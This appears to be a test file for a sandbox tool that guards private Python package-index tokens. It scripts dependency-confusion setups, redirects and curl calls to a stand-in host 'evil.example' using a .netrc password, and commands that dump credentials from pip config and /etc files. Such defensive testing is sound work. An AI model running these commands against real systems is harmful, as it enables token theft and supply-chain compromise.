#!/usr/bin/env -S python3 -B
# SPDX-License-Identifier: MIT
"""`[[python.index]]`, and indexes of the machine: a token for one host, and nobody else is asked for the company's packages."""
from attack import Project, cover
from index_service import COMPANY, EVIL, PUBLIC, URL, IndexService
from tap import test
from vectors import attack, main, seed

FILE = f'tokens = ["ACME_TOKEN"]\n[[python.index]]\nname = "acme"\nurl = "{URL}"\ntoken = "ACME_TOKEN"\ndefault = true\n'
PIP = "/usr/bin/python3 -m pip"
GET = f"{PIP} download --no-input -q -d /tmp/got acme-money; ls /tmp/got; rm -rf /tmp/got"


def prepare(h, config=FILE, **options):
    h.require("psbc", "firejail")
    if not h.run(["/usr/bin/python3", "-m", "pip", "--version"]).ok:
        h.require("pip3")
    token = h.decoys.new("token")
    index = IndexService(h, token, **options)
    h.write("~/.secrets/t", token + "\n", 0o600)
    h.write("~/.config/psbc/config.toml", "".join(f'[tokens.{name}]\nfrom = "file:~/.secrets/t"\n' for name in ("ACME_TOKEN", "HF_TOKEN")))
    return Project(h, config) if config else None, index, token


def with_token(index, token):
    """The hosts that were given it."""
    return {host for host, given in index.given().items() if any(token in one for one in given)}


@test("B14: an index that a session leaves in its environment is not asked by the next one")
@attack("index-planted", "B14", "an index that a session writes into the pip.conf of its environment")
def _(h):
    p, index, token = prepare(h)
    plant = f"python3 -m venv ~/envs/demo >/dev/null; printf '[global]\\nextra-index-url = {PUBLIC}/simple/\\n' > ~/envs/demo/pip.conf"
    get = "~/envs/demo/bin/" + GET.removeprefix("/usr/bin/")
    p.entered(plant)
    # By hand: one variable for the one index.
    r = p.entered(f"unset PIP_EXTRA_INDEX_URL; {get}")
    assert "acme_money-99.0" in r.out and index.asked(PUBLIC), r
    p.predecessor(plant)
    seed("index-planted", "99.0" in p.predecessor(f"PIP_INDEX_URL=https://dev:{token}@pypi.acme.example/simple/ PIP_TRUSTED_HOST='pypi.org pypi.acme.example' PIP_CERT= {get}").out)
    index.forget()
    r = p.entered(get)
    assert "acme_money-1.0" in r.out and not index.asked(PUBLIC), (str(r), index.requests())


@test("B14: a default index takes the place of the public one, whatever the user and the machine have beside it")
@attack("index-confusion", "B14", "a higher version of the company's package on the public index")
def _(h):
    extra = f"[global]\nextra-index-url = {PUBLIC}/simple/\n"
    h.write("~/.config/pip/pip.conf", extra)
    cover("/etc/pip.conf", extra)
    p, index, token = prepare(h)
    h.env.update(PIP_EXTRA_INDEX_URL=f"{PUBLIC}/simple/")
    # By hand, as most write it: the company's index beside the public one.
    r = p.predecessor(f"PIP_EXTRA_INDEX_URL=https://dev:{token}@pypi.acme.example/simple/ PIP_CERT= {PIP} --trusted-host pypi.org --trusted-host pypi.acme.example download -q -d /tmp/got acme-money; ls /tmp/got")
    assert "acme_money-99.0" in r.out and index.asked(PUBLIC), r
    seed("index-confusion", True)
    h.write("~/code/demo/pyproject.toml", '[build-system]\nrequires = ["acme-money"]\nbuild-backend = "acme_money"\n')
    for line in (
        GET,
        "env -i HOME=$HOME PATH=$PATH HTTPS_PROXY=$HTTPS_PROXY PIP_CERT=$PIP_CERT sh -c '" + GET + "'",
        f"printf '[global]\\nextra-index-url = {PUBLIC}/simple/\\n' > ~/.config/pip/pip.conf; " + GET,
        f"python3 -m venv ~/envs/demo >/dev/null; printf '[global]\\nextra-index-url = {PUBLIC}/simple/\\n' > ~/envs/demo/pip.conf; ~/envs/demo/bin/" + GET.replace("/usr/bin/python3", "python3"),
        f"{PIP} wheel -q . 2>/dev/null; {GET}",
    ):
        index.forget()
        r = p.entered(line)
        assert "acme_money-1.0" in r.out and not index.asked(PUBLIC) and index.asked(COMPANY), (line, str(r), index.asked(PUBLIC))
    index.forget()
    r = p.entered(f"{PIP} download --no-input -d /tmp/got public")
    assert "No matching distribution" in r.err and not index.asked(PUBLIC), r


@test("B14: poetry and pdm ask the default index alone")
@attack("index-confusion-tools", "B14", "a higher version of the company's package on the public index, for poetry and pdm")
def _(h):
    h.require("poetry", "pdm")
    p, index, token = prepare(h)
    h.write("~/code/demo/pdm/pyproject.toml", '[project]\nname = "x"\nversion = "1.0"\nrequires-python = ">=3.8"\ndependencies = ["acme-money"]\n[tool.pdm]\n')
    h.write("~/code/demo/poetry/pyproject.toml", '[tool.poetry]\nname = "x"\nversion = "1.0"\ndescription = ""\nauthors = []\n[tool.poetry.dependencies]\npython = ">=3.8"\n'
            f'acme-money = "*"\n[[tool.poetry.source]]\nname = "acme"\nurl = "{URL}"\ndefault = true\n')  # fmt: skip
    lock = "cd pdm; pdm use -qf /usr/bin/python3; pdm lock; cat pdm.lock; cd ../poetry; poetry lock --no-interaction; cat poetry.lock"
    # Outside, without the sandbox's settings: pdm asks the public one.
    r = h.run(["sh", "-c", lock], cwd="~/code/demo", timeout=180)
    assert "99.0" in r.out and index.asked(PUBLIC), r
    h.run(["sh", "-c", "rm -f */*.lock */.pdm.toml */.pdm-python"], cwd="~/code/demo")
    h.write("~/code/demo/pdm.lock")
    Project(h, FILE)  # pdm is recognised
    index.forget()
    r = p.entered(lock)
    assert r.out.count("1.0") >= 2 and "99.0" not in r.out and not index.asked(PUBLIC) and with_token(index, token) == {COMPANY}, (str(r), index.given())
    assert token not in r.out + r.err


@test("B14: an index that sends tools elsewhere sends no token there")
@attack("index-redirect", "B14", "a redirect from the index to another host, an absolute link, an address that looks like it")
def _(h):
    p, index, token = prepare(
        h,
        redirects={"moved": f"{EVIL}/simple/moved/", "plain": "http://pypi.acme.example/simple/acme-money/"},
        pages={"linked": f'<a href="{EVIL}/files/linked-1.0-py3-none-any.whl">linked-1.0-py3-none-any.whl</a>'},
    )
    line = "".join(f"{PIP} download --no-input -d /tmp/got {name} 2>&1\n" for name in ("moved", "linked"))
    line += f"{PIP} download --no-input -d /tmp/got --index-url https://pypi.acme.example@evil.example/simple/ other 2>&1; curl -sLn --cacert $PIP_CERT {COMPANY}/to/evil.example/x; curl -sn --cacert $PIP_CERT {EVIL}/y\n"
    # Written by hand: one password for all hosts.
    h.write("~/.netrc", f"default login x password {token}\n", 0o600)
    h.run(["sh", "-c", line], env={"PIP_INDEX_URL": URL}, cwd="~/code/demo")
    assert EVIL in with_token(index, token), index.given()
    index.forget()
    p.entered(line)
    asked = {path.partition("?")[0] for path in index.asked(EVIL)}
    assert {"/simple/moved/", "/files/linked-1.0-py3-none-any.whl", "/simple/other/", "/x", "/y"} <= asked, asked  # it was tried
    assert with_token(index, token) == {COMPANY}, index.given()


@test("B8: no output of pip, however much it is asked to say, holds the token")
@attack("index-verbose", "B8", "the token in what pip prints: -vvv, debug, config, a report, a log")
def _(h):
    p, index, token = prepare(h)
    say = f"{PIP} -vvv download --no-input --log /tmp/log -d /tmp/got acme-money; {PIP} config -v list; {PIP} config debug; {PIP} debug --verbose; {PIP} -vvv install --dry-run -q --report - " \
          f"--break-system-packages acme-money; {PIP} cache info; cat /tmp/log; env | grep -v ^ACME_TOKEN="  # fmt: skip
    r = p.predecessor(say, env={"PIP_INDEX_URL": f"https://dev:{token}@pypi.acme.example/simple/"})
    assert token in r.out, r
    seed("index-verbose", True)
    r = p.entered(say + " 2>&1")
    assert "acme_money" in r.out and token not in r.out + r.err, r
    assert token not in str(h.tree("~/.local")) + p.psbc("build", "--print", "policy").out + p.psbc("trust", "--show").out


@test("E1: a file that sends a token to a stranger's index says so before anything is asked")
@attack("index-stranger", "E1", "a clone whose index is a stranger's, with a token of another service; an address with a password in it")
def _(h):
    _, index, token = prepare(h, config="")
    text = f'tokens = ["HF_TOKEN"]\n[[python.index]]\nname = "acme"\nurl = "{EVIL}/simple/"\ntoken = "HF_TOKEN"\n'
    p = Project(h, text, trusted=False)
    p.refuses("psbc trust", status=3, run=PIP + " download -d . acme-money; touch ran")
    r = p.psbc("trust")  # nobody is there to ask
    assert r.status == 3 and f"+ index name=acme url={EVIL}/simple/ token=HF_TOKEN" in r.out + r.err, r
    assert "`HF_TOKEN` is a token of Hugging Face Hub, and goes to `evil.example`" in r.out + r.err, r
    assert not index.requests()
    h.write(p.file, f'name = "demo"\n[[python.index]]\nname = "acme"\nurl = "https://dev:{token}@evil.example/simple/"\n')
    r = p.psbc("trust", "--yes")
    assert r.status == 2 and "PSB0104" in r.err and token not in r.out + r.err, r


@test("B3: a password in the machine's own pip.conf or gitconfig is not readable inside, and the index is asked all the same")
@attack("system-settings", "B3", "a password in /etc/pip.conf and /etc/gitconfig")
def _(h):
    _, index, token = prepare(h, config="")
    cover("/etc/pip.conf", f"[global]\nindex-url = https://dev:{token}@pypi.acme.example/simple/\ntimeout = 7\n")
    cover("/etc/gitconfig", f'[url "https://x:{token}@github.com/"]\n\tinsteadOf = https://github.com/\n[alias]\n\tst = status\n')
    look = "cat /etc/pip.conf /etc/gitconfig /etc/uv/uv.toml /etc/xdg/pip/pip.conf; git config --system --list; git config --list"
    p = Project(h)
    assert token in p.predecessor(look).out
    seed("system-settings", True)
    r = p.entered(look + "; git st; env")
    assert token not in r.out + r.err and "alias.st=status" in r.out and "XDG_CONFIG_DIRS=/etc/xdg:" in r.out, r
    assert "passwords in `/etc/pip.conf` stay outside" in r.err and "`/etc/gitconfig` holds what looks like a secret" in r.err, r
    # Never the public one instead: the company's refuses, because its password is outside.
    index.forget()
    r = p.entered(f"{PIP} config list; {GET}")
    assert "timeout='7'" in r.out and "acme_money" not in r.out and index.asked(COMPANY) and not index.asked(PUBLIC) and not with_token(index, token), (str(r), index.given())
    # With an index of the project the machine's is not asked, and the token is the project's.
    p = Project(h, FILE)
    index.forget()
    r = p.entered(GET + "; cat ~/.config/psbc/xdg/pip/pip.conf")
    assert "acme_money-1.0" in r.out and index.given() == {COMPANY: {"__token__:" + token}}, (str(r), index.given())
    # Who accepts it sees it.
    h.write("~/.config/psbc/config.toml", 'accept_secrets = ["/etc/pip.conf", "/etc/gitconfig"]\n[tokens.ACME_TOKEN]\nfrom = "file:~/.secrets/t"\n')
    assert p.entered("cat /etc/pip.conf /etc/gitconfig").out.count(token) == 2
    # What cannot be taken out of it refuses the entry.
    h.write("~/.config/psbc/config.toml")
    p = Project(h)
    cover("/etc/pip.conf", "[global]\nindex-url = https://h/ghp_0123456789abcdefghijABCDEFGHIJ012345/simple/\n")
    p.refuses("PSB1041", "/etc/pip.conf", "public index")


main()
